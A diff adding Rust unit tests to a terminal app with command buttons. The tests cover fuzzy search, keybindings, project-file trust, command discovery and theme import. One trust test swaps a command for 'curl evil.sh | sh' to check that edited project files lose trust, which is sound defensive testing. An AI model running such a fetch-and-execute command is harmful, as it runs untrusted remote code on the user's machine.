+        assert_eq!(
+            executor.next(deadline).unwrap(),
+            MacroAction::Send("y".into())
+        );
+    }
+
+    // ============================================
+    // Palette Search Tests
+    // ============================================
+
+    const DAY_MS: u64 = 24 * 60 * 60 * 1000;
+
+    fn palette_ids(manager: &ButtonManager, query: &str, now_ms: u64) -> Vec<String> {
+        manager
+            .search(query, now_ms)
+            .into_iter()
+            .map(|m| m.button_id)
+            .collect()
+    }
+
+    fn palette_manager(buttons: &[(&str, &str, &str)]) -> ButtonManager {
+        let mut manager = ButtonManager::new();
+        for (id, name, command) in buttons {
+            manager.buttons.push(CommandButton::with_id(
+                id.to_string(),
+                name.to_string(),
+                command.to_string(),
+            ));
+        }
+        manager
+    }
+
+    #[test]
+    fn test_fuzzy_match() {
+        let found = fuzzy_match("dcu", "docker compose up").unwrap();
+        assert_eq!(found.ranges, vec![(0, 1), (7, 8), (15, 16)]);
+
+        let found = fuzzy_match("COMP", "docker compose").unwrap();
+        assert_eq!(found.ranges, vec![(7, 11)]);
+
+        assert_eq!(fuzzy_match("xyz", "docker"), None);
+        assert_eq!(fuzzy_match("", "docker"), None);
+        assert_eq!(fuzzy_match("é", "Éclair").unwrap().ranges, vec![(0, 1)]);
+    }
+
+    #[test]
+    fn test_fuzzy_match_prefers_word_starts_and_runs() {
+        // `gc` lands on the word starts rather than the first `c`
+        let found = fuzzy_match("gc", "git checkout").unwrap();
+        assert_eq!(found.ranges, vec![(0, 1), (4, 5)]);
+
+        let prefix = fuzzy_match("build", "build release").unwrap().score;
+        let inner = fuzzy_match("build", "rebuild").unwrap().score;
+        let scattered = fuzzy_match("build", "bxuxixlxd").unwrap().score;
+        assert!(prefix > inner);
+        assert!(inner > scattered);
+
+        // A run isn't split up to reach a later word start
+        let run = fuzzy_match("build", "Build docs").unwrap();
+        assert_eq!(run.ranges, vec![(0, 5)]);
+
+        let camel = fuzzy_match("rb", "runBuild").unwrap();
+        assert_eq!(camel.ranges, vec![(0, 1), (3, 4)]);
+    }
+
+    #[test]
+    fn test_search_fields_and_highlights() {
+        let mut manager = palette_manager(&[
+            ("logs", "Tail logs", "kubectl logs -f web"),
+            ("up", "Start", "docker compose up"),
+            ("deploy", "Ship it", "./deploy.sh"),
+        ]);
+        manager.buttons[2].tags = vec!["release".into(), "prod".into()];
+        let group = manager.add_group("Kubernetes".into(), None).unwrap();
+        manager.move_button_to_group("logs", Some(&group)).unwrap();
+
+        let results = manager.search("compose", 0);
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].button_id, "up");
+        assert_eq!(
+            results[0].highlights,
+            vec![Highlight {
+                field: MatchField::Command,
+                tag: None,
+                start: 7,
+                end: 14
+            }]
+        );
+
+        let results = manager.search("prod", 0);
+        assert_eq!(results[0].button_id, "deploy");
+        assert_eq!(results[0].highlights[0].field, MatchField::Tag);
+        assert_eq!(results[0].highlights[0].tag, Some(1));
+
+        let results = manager.search("kube tail", 0);
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].button_id, "logs");
+        let fields: Vec<_> = results[0].highlights.iter().map(|h| h.field).collect();
+        assert!(fields.contains(&MatchField::Name));
+        assert!(fields.contains(&MatchField::Command) || fields.contains(&MatchField::Group));
+
+        assert!(manager.search("kube nomatch", 0).is_empty());
+    }
+
+    #[test]
+    fn test_search_name_beats_command() {
+        let manager = palette_manager(&[
+            ("cmd", "Start services", "npm run test"),
+            ("name", "Test", "cargo nextest"),
+        ]);
+        assert_eq!(palette_ids(&manager, "test", 0), vec!["name", "cmd"]);
+    }
+
+    #[test]
+    fn test_search_frecency() {
+        let now = 100 * DAY_MS;
+        let mut manager = palette_manager(&[
+            ("a", "Build app", "make app"),
+            ("b", "Build docs", "make docs"),
+            ("c", "Build tests", "make tests"),
+        ]);
+        assert_eq!(palette_ids(&manager, "build", now), vec!["a", "b", "c"]);
+
+        manager.record_use("c", now - DAY_MS).unwrap();
+        assert_eq!(palette_ids(&manager, "build", now), vec!["c", "a", "b"]);
+
+        // Many old uses count for less than a few recent ones
+        for _ in 0..20 {
+            manager.record_use("b", now - 60 * DAY_MS).unwrap();
+        }
+        manager.record_use("c", now).unwrap();
+        assert_eq!(palette_ids(&manager, "build", now), vec!["c", "b", "a"]);
+
+        // An empty query lists everything by frecency
+        assert_eq!(palette_ids(&manager, "  ", now), vec!["c", "b", "a"]);
+
+        // Also for matches weak enough to score below zero
+        let name = format!("{}q {}w", "a".repeat(20), "a".repeat(40));
+        let mut manager = palette_manager(&[("a", &name, "x"), ("b", &name, "y")]);
+        assert!(manager.search("qw", now)[0].score < 0.0);
+        manager.record_use("b", now).unwrap();
+        assert_eq!(palette_ids(&manager, "qw", now), vec!["b", "a"]);
+    }
+
+    #[test]
+    fn test_frecency() {
+        let now = 30 * DAY_MS;
+        assert_eq!(frecency(0, None, now), 1.0);
+        assert!(frecency(5, Some(now), now) > frecency(5, Some(now - 14 * DAY_MS), now));
+        assert!(frecency(10, Some(now), now) > frecency(2, Some(now), now));
+        assert!(frecency(3, None, now) > 1.0);
+        // A timestamp from the future counts as now
+        assert_eq!(
+            frecency(1, Some(now + DAY_MS), now),
+            frecency(1, Some(now), now)
+        );
+    }
+
+    #[test]
+    fn test_record_use_tracks_last_used() {
+        let mut manager = palette_manager(&[("a", "A", "a")]);
+        manager.record_use("a", 1_000).unwrap();
+        manager.record_use("a", 2_000).unwrap();
+        let button = manager.get_button("a").unwrap();
+        assert_eq!(button.use_count, 2);
+        assert_eq!(button.last_used_ms, Some(2_000));
+        assert_eq!(button.definition().last_used_ms, None);
+    }
+
+    #[test]
+    fn test_search_ties_break_by_name_then_id() {
+        let manager = palette_manager(&[
+            ("2", "deploy", "x"),
+            ("3", "Deploy", "x"),
+            ("1", "deploy", "x"),
+            ("0", "Beta deploy", "y"),
+        ]);
+        assert_eq!(palette_ids(&manager, "deploy", 0), vec!["1", "2", "3", "0"]);
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn prop_search_order_ignores_button_order(
+            names in proptest::collection::vec("[a-c ]{1,6}", 1..8),
+            uses in proptest::collection::vec(0u32..4, 8),
+            query in "[a-c]{0,2}",
+            seed in 0usize..1000,
+        ) {
+            let now = 10 * DAY_MS;
+            let mut manager = ButtonManager::new();
+            for (i, name) in names.iter().enumerate() {
+                let mut button = CommandButton::with_id(i.to_string(), name.clone(), "run".into());
+                button.use_count = uses[i];
+                button.last_used_ms = (uses[i] > 0).then(|| now - uses[i] as u64 * DAY_MS);
+                manager.buttons.push(button);
+            }
+            let ranked = palette_ids(&manager, &query, now);
+
+            let shift = seed % manager.buttons.len();
+            manager.buttons.rotate_left(shift);
+            manager.buttons.reverse();
+            proptest::prop_assert_eq!(palette_ids(&manager, &query, now), ranked);
+        }
+    }
+
+    // ============================================
+    // Keybinding Tests
+    // ============================================
+
+    #[test]
+    fn test_accelerator_normalization() {
+        let parse = |text| Accelerator::parse_for(text, false).unwrap().to_string();
+        assert_eq!(parse("CmdOrCtrl+Shift+b"), "Ctrl+Shift+B");
+        assert_eq!(parse("shift + control + B"), "Ctrl+Shift+B");
+        assert_eq!(parse("Option+Esc"), "Alt+Escape");
+        assert_eq!(parse("Super+ArrowUp"), "Meta+Up");
+        assert_eq!(parse("Ctrl+Plus"), "Ctrl+Plus");
+        assert_eq!(parse("Ctrl+/"), "Ctrl+/");
+        assert_eq!(parse("f5"), "F5");
+
+        let mac = Accelerator::parse_for("CommandOrControl+K", true).unwrap();
+        assert_eq!(mac.to_string(), "Meta+K");
+        assert_eq!(mac, Accelerator::parse_for("Cmd+k", true).unwrap());
+    }
+
+    #[test]
+    fn test_invalid_accelerators() {
+        for text in [
+            "",
+            "B",
+            "Shift+A",
+            "Shift+Up",
+            "Ctrl+",
+            "Ctrl+Ctrl+B",
+            "Hyper+B",
+            "Ctrl+F25",
+            "Ctrl+Banana",
+        ] {
+            assert!(
+                matches!(
+                    Accelerator::parse_for(text, false),
+                    Err(AppError::InvalidAccelerator { .. })
+                ),
+                "{text:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_builtin_keybindings() {
+        let keybindings = Keybindings::builtin();
+        assert_eq!(keybindings.bindings().len(), BUILTIN_KEYBINDINGS.len());
+        assert_eq!(keybindings.get("CmdOrCtrl+t"), Some(&KeyAction::NewTab));
+        assert_eq!(keybindings.get("CmdOrCtrl+W"), Some(&KeyAction::CloseTab));
+        assert_eq!(
+            keybindings.get("CommandOrControl+K"),
+            Some(&KeyAction::CommandPalette)
+        );
+        assert_eq!(keybindings.get("CmdOrCtrl+B"), None);
+    }
+
+    #[test]
+    fn test_button_accelerators() {
+        let mut manager = ButtonManager::new();
+        let build = manager.add_button("Build".into(), "make".into()).unwrap();
+        let test = manager
+            .add_button("Test".into(), "make test".into())
+            .unwrap();
+
+        manager
+            .set_accelerator(&build, Some("cmdorctrl+shift+b"))
+            .unwrap();
+        assert_eq!(
+            manager.get_button(&build).unwrap().accelerator.as_deref(),
+            Some("cmdorctrl+shift+b")
+        );
+        // Re-binding a button to its own shortcut isn't a conflict
+        manager
+            .set_accelerator(&build, Some("CmdOrCtrl+Shift+B"))
+            .unwrap();
+
+        let err = manager
+            .set_accelerator(&test, Some("Shift+CmdOrCtrl+B"))
+            .unwrap_err();
+        assert!(matches!(
+            err,
+            AppError::KeybindingConflict { existing: KeyAction::RunButton { button_id }, .. }
+                if button_id == build
+        ));
+
+        let err = manager
+            .set_accelerator(&test, Some("CmdOrCtrl+T"))
+            .unwrap_err();
+        assert!(matches!(
+            err,
+            AppError::KeybindingConflict {
+                existing: KeyAction::NewTab,
+                ..
+            }
+        ));
+        assert_eq!(manager.get_button(&test).unwrap().accelerator, None);
+
+        manager.set_accelerator(&test, Some("F5")).unwrap();
+        let keybindings = manager.keybindings().unwrap();
+        assert_eq!(keybindings.bindings().len(), BUILTIN_KEYBINDINGS.len() + 2);
+        assert_eq!(
+            keybindings.get("F5"),
+            Some(&KeyAction::RunButton {
+                button_id: test.clone()
+            })
+        );
+
+        manager.set_accelerator(&test, None).unwrap();
+        assert_eq!(manager.keybindings().unwrap().get("F5"), None);
+    }
+
+    #[test]
+    fn test_keybinding_conflict_in_config() {
+        let json = r#"[
+            {"id": "a", "name": "A", "command": "a", "accelerator": "Alt+1"},
+            {"id": "b", "name": "B", "command": "b", "accelerator": "alt+1"}
+        ]"#;
+        let err = ButtonManager::from_json(json).unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "Shortcut Alt+1 for button b is already used by button a"
+        );
+    }
+
+    #[test]
+    fn test_keybindings_serialize_as_map() {
+        let json = serde_json::to_value(Keybindings::builtin()).unwrap();
+        let new_tab = Accelerator::parse("CmdOrCtrl+T").unwrap().to_string();
+        assert_eq!(json[&new_tab], serde_json::json!({"action": "new_tab"}));
+    }
+
+    // ============================================
+    // Project File Tests
+    // ============================================
+
+    const PROJECT_TOML: &str = r#"
+[[buttons]]
+name = "Test"
+command = "cargo test"
+
+[[buttons]]
+id = "fmt"
+name = "Format"
+command = "cargo fmt"
+cwd = "/elsewhere"
+"#;
+
+    #[test]
+    fn test_find_project_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let nested = dir.path().join("src/deep");
+        std::fs::create_dir_all(&nested).unwrap();
+        assert_eq!(find_project_file(&nested), None);
+
+        std::fs::write(dir.path().join(".termos.json"), "{}").unwrap();
+        assert_eq!(
+            find_project_file(&nested),
+            Some(dir.path().join(".termos.json"))
+        );
+
+        // TOML wins over JSON, and the nearest directory wins
+        std::fs::write(dir.path().join(".termos.toml"), "").unwrap();
+        assert_eq!(
+            find_project_file(&nested),
+            Some(dir.path().join(".termos.toml"))
+        );
+        std::fs::write(nested.join(".termos.json"), "{}").unwrap();
+        assert_eq!(
+            find_project_file(&nested),
+            Some(nested.join(".termos.json"))
+        );
+    }
+
+    #[test]
+    fn test_parse_project() {
+        let path = Path::new("/repo/.termos.toml");
+        let project = Project::parse(path, PROJECT_TOML, &BTreeMap::new()).unwrap();
+        assert_eq!(project.root, "/repo");
+        assert_eq!(project.hash, content_hash(PROJECT_TOML));
+        assert!(!project.trusted);
+        assert_eq!(project.group.id, PROJECT_GROUP_ID);
+        assert_eq!(project.group.name, "Project");
+
+        let ids: Vec<_> = project.buttons.iter().map(|b| b.id.as_str()).collect();
+        assert_eq!(ids, vec!["project:Test", "project:fmt"]);
+        assert!(ids.iter().all(|id| Project::is_project_button(id)));
+        assert!(!Project::is_project_button("fmt"));
+
+        let test = project.get_button("project:Test").unwrap();
+        assert_eq!(test.group_id.as_deref(), Some(PROJECT_GROUP_ID));
+        assert_eq!(test.cwd.as_deref(), Some("/repo"));
+        let fmt = project.get_button("project:fmt").unwrap();
+        assert_eq!(fmt.cwd.as_deref(), Some("/elsewhere"));
+    }
+
+    #[test]
+    fn test_parse_project_json_and_errors() {
+        let json = r#"{"buttons": [{"name": "Lint", "command": "npm run lint"}]}"#;
+        let project =
+            Project::parse(Path::new("/repo/.termos.json"), json, &BTreeMap::new()).unwrap();
+        assert_eq!(project.buttons[0].id, "project:Lint");
+
+        let err = Project::parse(
+            Path::new("/repo/.termos.toml"),
+            "[[buttons]]\ncommand = \"ls\"",
+            &BTreeMap::new(),
+        )
+        .unwrap_err();
+        assert!(matches!(err, AppError::InvalidDocument(_)));
+
+        let err = Project::parse(
+            Path::new("/repo/.termos.toml"),
+            "[[buttons]]\nname = \"Bad\"\ncommand = \"{{oops\"",
+            &BTreeMap::new(),
+        )
+        .unwrap_err();
+        assert!(matches!(err, AppError::Template { .. }));
+
+        let err = Project::parse(
+            Path::new("/repo/.termos.toml"),
+            "buttons = [",
+            &BTreeMap::new(),
+        )
+        .unwrap_err();
+        assert!(matches!(err, AppError::ConfigParse { line: 1, .. }));
+    }
+
+    #[test]
+    fn test_project_trust_is_keyed_by_content() {
+        let path = Path::new("/repo/.termos.toml");
+        let mut state = AppState::new();
+        let project = Project::parse(path, PROJECT_TOML, &state.trusted_projects).unwrap();
+        assert!(matches!(
+            project.runnable_button("project:Test"),
+            Err(AppError::UntrustedProject(p)) if p == "/repo/.termos.toml"
+        ));
+
+        state.trust_project(&project);
+        let project = Project::parse(path, PROJECT_TOML, &state.trusted_projects).unwrap();
+        assert!(project.trusted);
+        assert_eq!(
+            project.runnable_button("project:Test").unwrap().command,
+            "cargo test"
+        );
+
+        // Any change to the file needs trusting again
+        let changed = PROJECT_TOML.replace("cargo test", "curl evil.sh | sh");
+        let project = Project::parse(path, &changed, &state.trusted_projects).unwrap();
+        assert!(!project.trusted);
+
+        // Trust survives a config round trip
+        let reloaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(reloaded.trusted_projects, state.trusted_projects);
+    }
+
+    #[test]
+    fn test_content_hash() {
+        assert_eq!(
+            content_hash(""),
+            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+        );
+        assert_ne!(content_hash("a"), content_hash("b"));
+    }
+
+    // ============================================
+    // Command Discovery Tests
+    // ============================================
+
+    #[test]
+    fn test_parse_makefile_targets() {
+        let makefile = "\
+.PHONY: build test
+CC := gcc
+FLAGS ::= -O2
+VERSION = 1.0
+
+build test: deps
+\t$(CC) -o app main.c
+
+lint:
+\techo lint: done
+
+%.o: %.c
+\t$(CC) -c $<
+
+$(OUT): build
+define RECIPE
+fake: target
+endef
+# commented: out
+build: more-deps
+";
+        assert_eq!(
+            parse_makefile_targets(makefile),
+            vec!["build", "test", "lint"]
+        );
+    }
+
+    #[test]
+    fn test_parse_package_scripts_and_cargo_aliases() {
+        let package = r#"{"name": "app", "scripts": {"dev": "vite", "build:prod": "vite build", "bad name": "x"}}"#;
+        assert_eq!(
+            parse_package_scripts(package).unwrap(),
+            vec!["build:prod", "dev"]
+        );
+        assert!(parse_package_scripts(r#"{"name": "app"}"#)
+            .unwrap()
+            .is_empty());
+        assert!(matches!(parse_package_scripts("{"), Err(AppError::Json(_))));
+
+        let config = "[alias]\nb = \"build\"\nxtask = [\"run\", \"-p\", \"xtask\"]\n";
+        assert_eq!(parse_cargo_aliases(config).unwrap(), vec!["b", "xtask"]);
+        assert!(matches!(
+            parse_cargo_aliases("[alias"),
+            Err(AppError::ConfigParse { line: 1, .. })
+        ));
+    }
+
+    #[test]
+    fn test_parse_just_recipes() {
+        let justfile = "\
+set shell := [\"bash\", \"-c\"]
+alias b := build
+version := \"1.0\"
+
+# Build the app
+build mode=\"debug\":
+    cargo build --profile {{mode}}
+
+@test filter *args: build
+    cargo test {{filter}} {{args}}
+
+[private]
+helper:
+    echo hidden
+
+_secret:
+    echo hidden
+
+serve addr=\"localhost:8080\":
+    ./serve {{addr}}
+";
+        let recipes = CommandSource::Just.parse(justfile).unwrap();
+        assert_eq!(
+            recipes,
+            vec![
+                ("build".to_string(), "just build {{mode:debug}}".to_string()),
+                (
+                    "test".to_string(),
+                    "just test {{filter}} {{args?|raw}}".to_string()
+                ),
+                (
+                    "serve".to_string(),
+                    "just serve {{addr:localhost:8080}}".to_string()
+                ),
+            ]
+        );
+        for (_, command) in recipes {
+            Template::parse(&command).unwrap();
+        }
+    }
+
+    #[test]
+    fn test_discovery_cache() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("Makefile"), "build:\n\tcc main.c\n").unwrap();
+        std::fs::write(dir.path().join("package.json"), "{").unwrap();
+        std::fs::create_dir(dir.path().join(".cargo")).unwrap();
+        std::fs::write(
+            dir.path().join(".cargo/config.toml"),
+            "[alias]\nb = \"build\"\n",
+        )
+        .unwrap();
+
+        let mut cache = DiscoveryCache::new();
+        let discovery = cache.discover(dir.path());
+        let ids: Vec<_> = discovery.buttons.iter().map(|b| b.id.as_str()).collect();
+        assert_eq!(ids, vec!["discovered:make:build", "discovered:cargo:b"]);
+        assert_eq!(discovery.buttons[0].command, "make build");
+        assert_eq!(discovery.buttons[0].tags, vec!["make"]);
+        assert_eq!(
+            discovery.buttons[0].cwd.as_deref(),
+            Some(dir.path().to_str().unwrap())
+        );
+        assert_eq!(discovery.errors.len(), 1);
+        assert!(discovery.errors[0].contains("package.json"));
+
+        // Unchanged modification time: the cached result is used
+        let makefile = dir.path().join("Makefile");
+        let modified = std::fs::metadata(&makefile).unwrap().modified().unwrap();
+        std::fs::write(&makefile, "build:\n\tcc main.c\nclean:\n\trm app\n").unwrap();
+        let file = std::fs::File::options()
+            .write(true)
+            .open(&makefile)
+            .unwrap();
+        file.set_modified(modified).unwrap();
+        assert_eq!(cache.discover(dir.path()).buttons.len(), 2);
+
+        file.set_modified(modified + Duration::from_secs(1))
+            .unwrap();
+        let discovery = cache.discover(dir.path());
+        assert_eq!(discovery.buttons.len(), 3);
+        assert_eq!(discovery.buttons[1].command, "make clean");
     }
 
-    /// Gets all tab IDs
-    pub fn get_tab_ids(&self) -> Vec<String> {
-        let mut ids: Vec<_> = self.active_tabs.iter().cloned().collect();
-        ids.sort(); // Sort for consistent ordering
-        ids
+    #[test]
+    fn test_adopt_button() {
+        let mut manager = ButtonManager::new();
+        let mut suggested = CommandButton::with_id(
+            "discovered:make:test".into(),
+            "test".into(),
+            "make test".into(),
+        );
+        suggested.use_count = 3;
+        let id = manager.adopt_button(&suggested).unwrap();
+        assert_ne!(id, suggested.id);
+        let adopted = manager.get_button(&id).unwrap();
+        assert_eq!(adopted.command, "make test");
+        assert_eq!(adopted.use_count, 0);
     }
 
-    /// Gets the next tab number (for display purposes)
-    pub fn next_tab_number(&self) -> u32 {
-        self.next_tab_num
+    // ============================================
+    // Theme Tests
+    // ============================================
+
+    #[test]
+    fn test_builtin_themes() {
+        let names = TerminalTheme::builtin_names();
+        assert_eq!(names[0], DEFAULT_THEME);
+        for name in names {
+            let theme = TerminalTheme::by_name(name).unwrap();
+            assert_eq!(theme.name, name);
+            theme.validate().unwrap();
+        }
+        assert_eq!(TerminalTheme::default().name, DEFAULT_THEME);
+
+        let dracula = TerminalTheme::by_name("dracula").unwrap();
+        assert_eq!(dracula.name, "Dracula");
+        assert_eq!(dracula.background, "#282a36");
+        assert_eq!(dracula.ansi()[1], "#ff5555");
+        assert_eq!(dracula.bright_white, "#ffffff");
+        assert!(matches!(
+            TerminalTheme::by_name("Nope"),
+            Err(AppError::ThemeNotFound(name)) if name == "Nope"
+        ));
     }
-}
 
-impl Default for TabManager {
-    fn default() -> Self {
-        Self::new()
+    #[test]
+    fn test_set_theme() {
+        let mut config = TerminalConfig::default();
+        config.set_theme("Solarized Light").unwrap();
+        assert_eq!(config.theme.background, "#fdf6e3");
+        assert!(config.set_theme("Missing").is_err());
+        assert_eq!(config.theme.name, "Solarized Light");
     }
-}
 
-#[cfg(test)]
-mod tests {
-    use super::*;
+    #[test]
+    fn test_validate_color() {
+        for valid in ["#fff", "#1e1e1e", "#264F78", "#264f7880"] {
+            validate_color("background", valid).unwrap();
+        }
+        for invalid in ["fff", "#ffff", "#12345g", "red", "", "#"] {
+            assert!(matches!(
+                validate_color("background", invalid),
+                Err(AppError::InvalidColor { field, value }) if field == "background" && value == invalid
+            ));
+        }
+    }
 
     #[test]
-    fn test_button_creation() {
-        let button = CommandButton::new("Test".to_string(), "echo test".to_string());
-        assert_eq!(button.name, "Test");
-        assert_eq!(button.command, "echo test");
-        assert!(!button.id.is_empty());
+    fn test_invalid_theme_color_rejected_on_load() {
+        let err = AppState::from_toml(
+            "[terminal_config]\ncursor_blink = true\n\n[terminal_config.theme]\nbright_red = \"#ff00\"\n",
+        )
+        .unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "Invalid color for bright_red: `#ff00` (expected #rgb, #rrggbb or #rrggbbaa)"
+        );
     }
 
     #[test]
-    fn test_button_manager_add() {
-        let mut manager = ButtonManager::new();
-        manager.add_button("Test".to_string(), "echo test".to_string());
-        assert_eq!(manager.count(), 1);
+    fn test_theme_toml_roundtrip() {
+        let mut state = AppState::new();
+        state.terminal_config.set_theme("Gruvbox Dark").unwrap();
+        let loaded = AppState::from_toml(&state.to_toml().unwrap()).unwrap();
+        assert_eq!(loaded.terminal_config, state.terminal_config);
     }
 
     #[test]
-    fn test_button_manager_update() {
-        let mut manager = ButtonManager::new();
-        let id = manager.add_button("Test".to_string(), "echo test".to_string());
+    fn test_bundle_v1_terminal_colors_migrated() {
+        let json = r##"{
+            "schema_version": 1,
+            "terminal_config": {
+                "cursor_blink": false,
+                "background_color": "#101010",
+                "foreground_color": "#d4d4d4"
+            }
+        }"##;
+        let bundle = ConfigBundle::from_json(json).unwrap();
+        let theme = bundle.terminal_config.unwrap().theme;
+        assert_eq!(theme.background, "#101010");
+        assert_eq!(theme.foreground, TerminalTheme::default().foreground);
+    }
 
-        manager
-            .update_button(&id, "Updated".to_string(), "echo updated".to_string())
-            .expect("button should exist");
+    // ============================================
+    // Theme Import Tests
+    // ============================================
 
-        let updated = manager.get_button(&id).expect("button should exist");
-        assert_eq!(updated.name, "Updated");
-        assert_eq!(updated.command, "echo updated");
+    /// An `.itermcolors` file with the Dracula colors, leaving out `skip`
+    fn iterm_fixture(skip: &str) -> String {
+        let dracula = TerminalTheme::by_name("Dracula").unwrap();
+        let mut colors: Vec<(String, &str)> = vec![
+            ("Background Color".into(), &dracula.background),
+            ("Foreground Color".into(), &dracula.foreground),
+            ("Selection Color".into(), &dracula.selection_background),
+        ];
+        for (i, color) in dracula.ansi().into_iter().enumerate() {
+            colors.push((format!("Ansi {i} Color"), color));
+        }
+
+        let mut entries = String::new();
+        for (key, hex) in colors.into_iter().filter(|(key, _)| key != skip) {
+            let component = |i: usize| {
+                u8::from_str_radix(&hex[1 + 2 * i..3 + 2 * i], 16).unwrap() as f64 / 255.0
+            };
+            entries.push_str(&format!(
+                "<key>{key}</key>\n<dict>\n\
+                 <key>Alpha Component</key><real>1</real>\n\
+                 <key>Blue Component</key><real>{}</real>\n\
+                 <key>Color Space</key><string>sRGB</string>\n\
+                 <key>Green Component</key><real>{}</real>\n\
+                 <key>Red Component</key><real>{}</real>\n</dict>\n",
+                component(2),
+                component(1),
+                component(0),
+            ));
+        }
+        format!(
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
+             <!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n\
+             <plist version=\"1.0\">\n<dict>\n{entries}</dict>\n</plist>\n"
+        )
     }
 
     #[test]
-    fn test_button_manager_delete() {
-        let mut manager = ButtonManager::new();
-        let id = manager.add_button("Test".to_string(), "echo test".to_string());
+    fn test_import_iterm() {
+        let theme =
+            TerminalTheme::import(&iterm_fixture(""), ThemeFormat::Iterm, "My Dracula").unwrap();
+        let dracula = TerminalTheme::by_name("Dracula").unwrap();
+        assert_eq!(theme.name, "My Dracula");
+        assert_eq!(theme.ansi(), dracula.ansi());
+        assert_eq!(theme.background, dracula.background);
+        assert_eq!(theme.selection_background, dracula.selection_background);
+        // No cursor colors in the file: foreground and background are used
+        assert_eq!(theme.cursor, dracula.foreground);
+        assert_eq!(theme.cursor_accent, dracula.background);
 
-        manager.delete_button(&id).expect("button should exist");
-        assert_eq!(manager.count(), 0);
+        let err = TerminalTheme::import(&iterm_fixture("Ansi 9 Color"), ThemeFormat::Iterm, "x")
+            .unwrap_err();
+        assert_eq!(
+            err.to_string(),
+            "iTerm2 theme is missing the Ansi 9 Color color"
+        );
+        assert!(matches!(
+            TerminalTheme::import("<plist><dict>", ThemeFormat::Iterm, "x"),
+            Err(AppError::InvalidTheme {
+                format: ThemeFormat::Iterm,
+                ..
+            })
+        ));
     }
 
+    const ALACRITTY_TOML: &str = r##"
+[colors.primary]
+background = "0x1D1F21"
+foreground = "#c5c8c6"
+
+[colors.cursor]
+text = "CellBackground"
+cursor = "CellForeground"
+
+[colors.normal]
+black = "#1d1f21"
+red = "#cc6666"
+green = "#b5bd68"
+yellow = "#f0c674"
+blue = "#81a2be"
+magenta = "#b294bb"
+cyan = "#8abeb7"
+white = "#c5c8c6"
+
+[colors.bright]
+black = "#666666"
+red = "#d54e53"
+green = "#b9ca4a"
+yellow = "#e7c547"
+blue = "#7aa6da"
+magenta = "#c397d8"
+cyan = "#70c0b1"
+white = "#eaeaea"
+"##;
+
     #[test]
-    fn test_button_manager_json() {
-        let mut manager = ButtonManager::new();
-        manager.add_button("Test1".to_string(), "echo 1".to_string());
-        manager.add_button("Test2".to_string(), "echo 2".to_string());
+    fn test_import_alacritty() {
+        let theme =
+            TerminalTheme::import(ALACRITTY_TOML, ThemeFormat::AlacrittyToml, "Tomorrow Night")
+                .unwrap();
+        assert_eq!(theme.name, "Tomorrow Night");
+        assert_eq!(theme.background, "#1d1f21");
+        assert_eq!(theme.cursor, "#c5c8c6");
+        assert_eq!(theme.red, "#cc6666");
+        assert_eq!(theme.bright_white, "#eaeaea");
 
-        let json = manager.to_json().unwrap();
-        let loaded = ButtonManager::from_json(&json).unwrap();
+        let yaml = "\
+colors:
+  primary:
+    background: '#1d1f21'
+    foreground: '#c5c8c6'
+  normal:
+    black: '#1d1f21'
+    red: '#cc6666'
+    green: '#b5bd68'
+    yellow: '#f0c674'
+    blue: '#81a2be'
+    magenta: '#b294bb'
+    cyan: '#8abeb7'
+    white: '#c5c8c6'
+  bright:
+    black: '#666666'
+    red: '#d54e53'
+    green: '#b9ca4a'
+    yellow: '#e7c547'
+    blue: '#7aa6da'
+    magenta: '#c397d8'
+    cyan: '#70c0b1'
+    white: '#eaeaea'
+";
+        let from_yaml =
+            TerminalTheme::import(yaml, ThemeFormat::AlacrittyYaml, "Tomorrow Night").unwrap();
+        assert_eq!(from_yaml, theme);
 
-        assert_eq!(loaded.count(), 2);
-        assert_eq!(loaded.buttons[0].name, "Test1");
-        assert_eq!(loaded.buttons[1].name, "Test2");
+        let missing = ALACRITTY_TOML.replace("cyan = \"#70c0b1\"\n", "");
+        assert_eq!(
+            TerminalTheme::import(&missing, ThemeFormat::AlacrittyToml, "x")
+                .unwrap_err()
+                .to_string(),
+            "Alacritty TOML theme is missing the colors.bright.cyan color"
+        );
+        let invalid = ALACRITTY_TOML.replace("\"#cc6666\"", "\"reddish\"");
+        assert!(matches!(
+            TerminalTheme::import(&invalid, ThemeFormat::AlacrittyToml, "x"),
+            Err(AppError::InvalidTheme { .. })
+        ));
     }
 
     #[test]
-    fn test_app_state_serialization() {
+    fn test_import_windows_terminal() {
+        let json = r##"{
+            "schemes": [{
+                "name": "Campbell",
+                "background": "#0C0C0C",
+                "foreground": "#CCCCCC",
+                "cursorColor": "#FFFFFF",
+                "selectionBackground": "#FFFFFF",
+                "black": "#0C0C0C", "red": "#C50F1F", "green": "#13A10E", "yellow": "#C19C00",
+                "blue": "#0037DA", "purple": "#881798", "cyan": "#3A96DD", "white": "#CCCCCC",
+                "brightBlack": "#767676", "brightRed": "#E74856", "brightGreen": "#16C60C",
+                "brightYellow": "#F9F1A5", "brightBlue": "#3B78FF", "brightPurple": "#B4009E",
+                "brightCyan": "#61D6D6", "brightWhite": "#F2F2F2"
+            }]
+        }"##;
+        let theme = TerminalTheme::import(json, ThemeFormat::WindowsTerminal, "file").unwrap();
+        assert_eq!(theme.name, "Campbell");
+        assert_eq!(theme.background, "#0c0c0c");
+        assert_eq!(theme.magenta, "#881798");
+        assert_eq!(theme.bright_magenta, "#b4009e");
+        assert_eq!(theme.cursor_accent, "#0c0c0c");
+
+        let missing = json.replace(r##""brightBlue": "#3B78FF","##, "");
+        assert!(matches!(
+            TerminalTheme::import(&missing, ThemeFormat::WindowsTerminal, "file"),
+            Err(AppError::MissingColor { color, .. }) if color == "brightBlue"
+        ));
+    }
+
+    #[test]
+    fn test_import_base16() {
+        let yaml = "\
+scheme: \"Ocean\"
+author: \"Chris Kempson\"
+base00: \"2b303b\"
+base01: \"343d46\"
+base02: \"4f5b66\"
+base03: \"65737e\"
